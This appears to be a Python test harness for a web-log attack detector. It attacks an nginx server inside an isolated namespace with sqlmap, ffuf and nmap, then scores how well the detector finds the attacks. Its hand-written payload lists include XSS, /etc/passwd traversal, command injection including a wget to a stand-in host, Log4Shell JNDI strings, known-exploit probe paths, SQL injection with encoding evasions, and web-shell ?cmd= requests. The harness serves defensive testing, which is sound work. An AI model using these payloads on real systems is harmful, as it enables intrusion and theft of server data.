#!/usr/bin/env python3
"""noroshi weblog over the logs of a real nginx that real scanners attack, while crawlers and people use the same site. Everything runs
in a namespace without a way out (tests/lib/netns-run). Who sent a request is known from its address, so recall and false alarms are
counted by line and by class, and printed as a table. Scanners call themselves a browser: their names must not give them away.

usage: weblog_attacks.py NOROSHI [LOGS TO KEEP]     (prints TAP; NOROSHI_LONG=1: also wapiti, more of sqlmap)
"""
import collections
import json
import os
import random
import shutil
import subprocess
import sys
import tempfile
import time
import urllib.parse
from pathlib import Path

from tap import Tap

HERE = Path(__file__).resolve().parent
NETNS = HERE.parent / "lib/netns-run"
LONG = bool(os.environ.get("NOROSHI_LONG"))
SERVER = "198.18.0.2"
AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"
SQL, BLIND, XSS, PATH, COMMAND, SHELL, EXPLOIT, SCANNER = ("sql-injection", "blind-sql-injection", "cross-site-scripting", "path-traversal",
                                                          "command-injection", "web-shell", "known-exploit", "scanner")
BENIGN = ("198.18.2.", "198.18.3.")
# who: its address, and what it is to be found as
ATTACKERS = {
    "sqlmap": ("198.18.1.11", {SQL, BLIND}), "ffuf": ("198.18.1.12", {SCANNER}), "nmap": ("198.18.1.13", {SCANNER}),
    "wapiti": ("198.18.1.14", {SQL, XSS, PATH, COMMAND, SCANNER}), "xss": ("198.18.1.21", {XSS}), "traversal": ("198.18.1.22", {PATH}),
    "command": ("198.18.1.23", {COMMAND}), "exploits": ("198.18.1.24", {EXPLOIT}), "web shell": ("198.18.1.25", {SHELL}),
    "sql by hand": ("198.18.1.26", {SQL}), "nested": ("198.18.1.27", {SQL, XSS, PATH}),
}
HANDS = {
    "xss": ["/hello?name=<script>alert(document.cookie)</script>", "/hello?name=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "/hello?name=%22%3E%3Csvg/onload=confirm(1)%3E",
            "/hello?name=%27%20onmouseover%3D%27prompt(1)", "/search?q=%3Ciframe%20src%3Djavascript:alert(1)%3E", "/hello?name=%3Cscript%20src%3D//198.18.0.1/x.js%3E",
            "/hello?name=%3Cbody%20onload%3Deval(name)%3E", "/search?q=%3C/title%3E%3Cscript%3Efetch(1)%3C/script%3E"],
    "traversal": ["/view?file=../../etc/passwd", "/view?file=..%2f..%2f..%2f..%2fetc%2fpasswd", "/view?file=/etc/passwd", "/view?file=php://filter/convert.base64-encode/resource=index",
                  "/view?file=....//....//....//etc/hosts", "/view?file=..%5c..%5c..%5cboot.ini", "/view?file=file:///etc/passwd", "/view?file=doc1.txt%00.jpg", "/static/..;/manager/html"],
    "command": ["/ping?host=127.0.0.1;id", "/ping?host=127.0.0.1%7Ccat%20/etc/issue", "/ping?host=%24(sleep%205)", "/ping?host=x%60whoami%60", "/ping?host=a%26%26uname%20-a",
                "/ping?host=;wget%20http://198.18.0.1/x", "/page?name={{7*7}}", "/page?name=%24%7B7*7%7D", "/page?x=%3C?php%20system(1);", "/page?f=a;ping%20-c%205%20127.0.0.1"],
    "exploits": ["/?x=${jndi:ldap://198.18.0.1/a}", "/?x=${${lower:j}ndi:${lower:l}dap://198.18.0.1/a}", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/?class.module.classLoader.x=1",
                 "/autodiscover/autodiscover.json?@a.example/mapi/nspi", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/_ignition/execute-solution",
                 "/index.php?s=/index/think%5Capp/invokefunction", "/tmui/login.jsp/..;/tmui/", "/remote/fgt_lang?lang=/../../../..//////////dev/", "/%24%7B%40x%7D/",
                 "/boaform/admin/formLogin"],
    "sql by hand": ["/item?id=1%20or%201=1", "/item?id=1%27%20or%20%271%27=%271", "/item?id=-1%20union%20select%20name,price%20from%20item", "/item?id=1;drop%20table%20nothing--",
                    "/search?q=x%27%20union%20select%20null--%20-", "/login?user=admin%27--", "/item?id=1%20order%20by%2010--", "/item?id=(select%20case%20when%20(1=1)%20then%201%20else%202%20end)",
                    "/item?id=1%20and%20substr((select%20name%20from%20item),1,1)=char(65)", "/find?user[$ne]=x"],
    "nested": ["/view?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd", "/view?file=%25252e%25252e%25252fetc%25252fpasswd", "/view?file=..%c0%af..%c0%af..%c0%afetc/passwd",
               "/item?id=1%2520UnIoN%2520SeLeCt%25201,2", "/item?id=1/**/union/**/select/**/1,2", "/item?id=1/*!50000union*/select%201,2", "/hello?name=%253Cscript%253Ealert(1)%253C/script%253E",
               "/hello?name=%u003cscript%u003ealert(1)", "/hello?name=%26lt%3Bscript%26gt%3Balert(1)", "/item?id=1%EF%BC%87%20or%201=1%20or%20%EF%BC%87a%EF%BC%87=%EF%BC%87a"],
}
NGINX = """daemon off; worker_processes 1; pid {0}/nginx.pid; error_log {0}/error.log; events {{ }}
http {{
  client_body_temp_path {0}/t1; proxy_temp_path {0}/t2; fastcgi_temp_path {0}/t3; uwsgi_temp_path {0}/t4; scgi_temp_path {0}/t5;
  log_format lines escape=json '{{"time":"$time_iso8601","remote_addr":"$remote_addr","request":"$request","status":$status,"body_bytes_sent":$body_bytes_sent,'
    '"http_referer":"$http_referer","http_user_agent":"$http_user_agent","request_time":$request_time}}';
  access_log {0}/access.log combined; access_log {0}/access.json lines;
  server {{ listen 80; location / {{ proxy_pass http://127.0.0.1:8000; }} }}
}}
"""


def run(*command, limit=60, cpu=None, said=os.devnull, **more):
    """Runs a tool; how it ends does not matter: its requests do. `cpu`: so many seconds of processor time, which come to as many requests however
    busy the machine is."""
    name, started = command[0], time.monotonic()
    if cpu:
        command = ["prlimit", f"--cpu={cpu}", *command]
    try:
        with open(said, "wb") as out:
            subprocess.run([str(word) for word in command], timeout=limit, stdin=subprocess.DEVNULL, stdout=out, stderr=out, check=False, **more)
    except subprocess.TimeoutExpired:
        pass
    print(f"# {name}: {time.monotonic() - started:.0f} s", flush=True)


def send_as(who):
    """What does not bind an address of its own goes out under this one."""
    subprocess.run(["ip", "route", "replace", f"{SERVER}/32", "dev", "pair0", "src", who], check=True)


def curl(who, *urls, more=()):
    for at in range(0, len(urls), 50):
        subprocess.run(["curl", "-s", "-g", "--path-as-is", "--interface", who, "-A", AGENT, *more, *(word for url in urls[at:at + 50] for word in ("-o", "/dev/null", f"http://{SERVER}{url}"))],
                       timeout=180, check=False)


def benign(folder):
    """Crawlers that follow every link, and people who search, sign in, and sometimes ask for what is not there."""
    started = []
    for i in range(4):
        who = f"198.18.2.{i + 1}"
        started.append(subprocess.Popen(["wget", "-q", "-r", "-l", "3", "-p", "-e", "robots=off", f"--bind-address={who}", "-U", AGENT if i else "Wget/1.21", "-P", f"{folder}/crawl{i}",
                                         f"http://{SERVER}/"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
    sys.path.insert(0, str(HERE))
    from weblog_site import SEARCHES
    dice = random.Random(7)
    for i in range(40):
        searches = ["/search?" + urllib.parse.urlencode({"q": " ".join(dice.sample(SEARCHES, dice.choice((1, 1, 1, 2)))), "page": dice.randrange(1, 9)}) for _ in range(25)]
        others = [f"/article/{dice.randrange(120)}", f"/item?id={dice.randrange(1, 41)}", "/favicon.ico", "/apple-touch-icon.png", f"/old/page{dice.randrange(9)}.html", "/robots.txt"]
        curl(f"198.18.3.{i + 1}", *searches, *others)
        curl(f"198.18.3.{i + 1}", "/login", more=["-d", "user=me&password=x"])
    for process in started:
        process.wait(timeout=180)


def attack(folder):
    word_list = folder / "words"
    dice = random.Random(int(os.environ.get("NOROSHI_SEED", "1")))
    parts = ["admin", "backup", "test", "old", "dev", "api", "config", "data", "db", "user", "private", "secret", "tmp", "log", "upload", "shell", "cgi-bin", "console", "panel", ".git/HEAD", ".env"]
    word_list.write_text("\n".join(parts + [f"{dice.choice(parts)}{dice.randrange(1000)}{dice.choice(['', '.php', '.zip', '/'])}" for _ in range(400)]))
    send_as(ATTACKERS["sqlmap"][0])
    database = ["sqlmap", "-u", f"http://{SERVER}/item?id=1", "--batch", "-A", AGENT, "--output-dir", folder / "sqlmap", "--flush-session", "--disable-coloring"]
    run(*database, "--technique=BEU", "--tables", limit=300, cpu=120 if LONG else 12)
    run(*database, "--technique=B", "--tables", limit=300, cpu=120 if LONG else 10)
    if LONG:
        run(*database, "--level=3", "--risk=2", "--dump-all", limit=120)
    send_as(ATTACKERS["ffuf"][0])
    run("ffuf", "-u", f"http://{SERVER}/FUZZ", "-w", word_list, "-H", f"User-Agent: {AGENT}", "-t", "4", "-s", limit=120)
    send_as(ATTACKERS["nmap"][0])
    run("nmap", "-n", "-Pn", "-p", "80", "--script", "http-enum,http-config-backup,http-git,http-passwd", "--script-args", f"http.useragent={AGENT}", SERVER, limit=120 if LONG else 40)
    if LONG and shutil.which("wapiti"):
        send_as(ATTACKERS["wapiti"][0])
        run("wapiti", "-u", f"http://{SERVER}/", "--flush-session", "-m", "sql,xss,file,exec", "-A", AGENT, "--max-scan-time", "4", "--no-bugreport", "-f", "json", "-o", folder / "wapiti.json", limit=400, said=folder / "wapiti.out",
            env={**os.environ, "HOME": str(folder)})
    for who, urls in HANDS.items():
        curl(ATTACKERS[who][0], *urls)
    who = ATTACKERS["web shell"][0]
    curl(who, "/upload/note.php", more=["-d", "not a program"])
    curl(who, "/uploads/note.php", "/uploads/note.php?cmd=id", "/uploads/note.php?cmd=cat+/etc/issue")


def inside(folder):
    peer = ["nsenter", "-t", os.environ["NETNS_PEER"], "-n"]
    (folder / "nginx.conf").write_text(NGINX.format(folder))
    for n in [address for address, _ in ATTACKERS.values()] + [f"198.18.2.{i}" for i in range(1, 5)] + [f"198.18.3.{i}" for i in range(1, 41)]:
        subprocess.run(["ip", "address", "add", f"{n}/32", "dev", "pair0"], check=True)
    site = subprocess.Popen([*peer, sys.executable, str(HERE / "weblog_site.py"), "8000", str(folder / "site")])
    web = subprocess.Popen([*peer, "nginx", "-p", str(folder), "-c", str(folder / "nginx.conf")], stderr=subprocess.DEVNULL)
    for _ in range(1200):
        if subprocess.run(["curl", "-s", "-f", "-o", "/dev/null", f"http://{SERVER}/"], check=False).returncode == 0:
            break
        time.sleep(0.1)
    benign(folder)
    attack(folder)
    web.terminate()
    web.wait(timeout=60)
    site.terminate()
    site.wait(timeout=60)


def flagged_lines(noroshi, log, folder):
    """Line → classes, and what the findings say."""
    lines = folder / "flagged.ndjson"
    done = subprocess.run([noroshi, "weblog", "--json", "--language", "en", "--lines", str(lines), "--alerts", str(folder / "alerts.csv"), str(log)], capture_output=True, text=True, timeout=120)
    found = collections.defaultdict(set)
    for text in lines.read_text().splitlines():
        one = json.loads(text)
        found[one["line"]].add(one["attack"])
    return done, found, [json.loads(text) for text in done.stdout.splitlines()]


def table(lines, found):
    """Recall of each attacker's lines, of those that nobody benign sent too, and false alarms of each class over the benign ones. Returns
    what the test asserts."""
    names = {address: who for who, (address, _) in ATTACKERS.items()}
    attackers, benign_lines, false = collections.OrderedDict(), 0, collections.Counter()
    usual = {asked for sender, asked in lines if sender.startswith(BENIGN)}
    for line, (sender, asked) in enumerate(lines, 1):
        who = names.get(sender)
        if who:
            row = attackers.setdefault(who, [0, 0, collections.Counter(), 0])
            row[3] += 1
            row[0] += asked not in usual
            row[1] += bool(found.get(line)) and asked not in usual
            row[2].update(found.get(line, ()))
        elif sender.startswith(BENIGN):
            benign_lines += 1
            false.update(found.get(line, ()))
    print("# from           sent   its own  flagged  recall  flagged as")
    for who, (own, flagged, classes, sent) in attackers.items():
        print(f"# {who:12} {sent:7}   {own:7}  {flagged:7} {100 * flagged / max(1, own):6.1f}%  " + ", ".join(f"{name} {count}" for name, count in classes.most_common()))
    print(f"# benign       {benign_lines:7}             {sum(false.values()):7} false alarms: {dict(false) or 'none'}", flush=True)
    return attackers, benign_lines, false


def outside(noroshi, keep):
    tap = Tap()
    for tool in ("nginx", "sqlmap", "ffuf", "nmap", "wget", "curl"):
        if not shutil.which(tool):
            print(f"1..0 # SKIP {tool} is not here")
            return 77
    with tempfile.TemporaryDirectory(prefix="noroshi-weblog-") as name:
        folder = Path(name)
        folder.chmod(0o755)
        done = subprocess.run([str(NETNS), "--seconds", "2400" if LONG else "700", sys.executable, __file__, "--inside", name], check=False)
        if done.returncode == 77:
            print("1..0 # SKIP no namespaces here")
            return 77
        tap(done.returncode == 0, "the site was used and attacked", f"status {done.returncode}")
        log = folder / "access.log"
        lines = [(line.split(" ", 1)[0], line.split('"')[1]) for line in log.read_text(errors="replace").splitlines()]
        if keep:
            shutil.copytree(folder, keep, dirs_exist_ok=True)
        done, found, findings = flagged_lines(noroshi, log, folder)
        tap(done.returncode == 1, "something was found", done.stderr)
        attackers, benign_lines, false = table(lines, found)
        check(tap, attackers, benign_lines, false, findings)
        again, by_json, _ = flagged_lines(noroshi, folder / "access.json", folder)
        tap(again.returncode == 1 and by_json == found, "the same log as JSON says the same", f"{sorted(set(found) ^ set(by_json))[:10]} {again.stderr}")
        taken = subprocess.run([noroshi, "triage", "--json", "--org", f"site={folder / 'alerts.csv'}"], capture_output=True, text=True, timeout=60, check=False)
        tap(taken.returncode == 0, "triage takes the alerts", taken.stderr)
    if LONG and shutil.which("wfuzz"):
        done = subprocess.run([sys.executable, str(HERE / "weblog_heldout.py"), noroshi], check=False, capture_output=True, text=True)
        print("".join(f"# {line}\n" for line in done.stdout.splitlines()), end="")
        tap(done.returncode == 0, "other tools, whose lists nobody looked at", done.stderr)
    print(f"1..{tap.number}")
    return 1 if tap.failed else 0


def check(tap, attackers, benign_lines, false, findings):
    for who, (lines, flagged, classes, _) in attackers.items():
        missing = ATTACKERS[who][1] - set(classes)
        tap(not missing, f"{who}: every class is found", f"not found: {missing}")
        # a scanner's first requests, before it can be told from a visitor, and its requests for real pages are no attack
        least = 0.9 if who in HANDS else 0.5
        tap(flagged >= least * lines, f"{who}: at least {100 * least:.0f} % of its lines are flagged", f"{flagged} of {lines}")
    tap(benign_lines > 1000, "people and crawlers used the site", str(benign_lines))
    tap(sum(false.values()) <= benign_lines / 1000, "at most one false alarm in a thousand benign lines", f"{dict(false)} in {benign_lines}")
    seems = {(one["client"], one["attack"]): one["success"] for one in findings}
    tap(seems.get((ATTACKERS["sqlmap"][0], SQL)) == "likely" or seems.get((ATTACKERS["sqlmap"][0], BLIND)) == "likely", "sqlmap's success is seen", str(seems))
    tap(seems.get((ATTACKERS["traversal"][0], PATH)) == "likely", "that a file was read is seen", str(seems))
    tap(seems.get((ATTACKERS["web shell"][0], SHELL)) == "likely", "that an uploaded program answers is seen", str(seems))
    tap(seems.get((ATTACKERS["command"][0], COMMAND)) == "no", "that the commands did nothing is seen", str(seems))


if __name__ == "__main__":
    if sys.argv[1] == "--inside":
        inside(Path(sys.argv[2]))
    else:
        sys.exit(outside(sys.argv[1], sys.argv[2] if len(sys.argv) > 2 else None))
